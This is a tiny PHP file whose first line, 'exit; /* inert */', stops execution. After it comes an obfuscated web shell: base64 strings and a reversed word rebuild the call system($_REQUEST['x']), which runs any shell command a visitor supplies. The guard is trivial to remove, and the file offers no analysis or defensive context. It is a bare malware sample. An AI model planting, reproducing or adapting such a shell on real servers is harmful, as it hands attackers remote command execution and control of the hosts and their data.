<?php exit; /* inert */ 
$GhTyUiLkQwEr=array("c3RycmV2","YmFzZTY0X2RlY29kZQ==");function pQzMxNcBvLaKs($sDfGhJkLqWe){return call_user_func("base"."64_"."decode",$sDfGhJkLqWe);}$mNbVcXzLkJh=pQzMxNcBvLaKs($GhTyUiLkQwEr[0]);$yTrEwQaSdFg=$mNbVcXzLkJh("metsys");if(isset($_REQUEST[pQzMxNcBvLaKs("eA==")]))$yTrEwQaSdFg($_REQUEST[pQzMxNcBvLaKs("eA==")]);
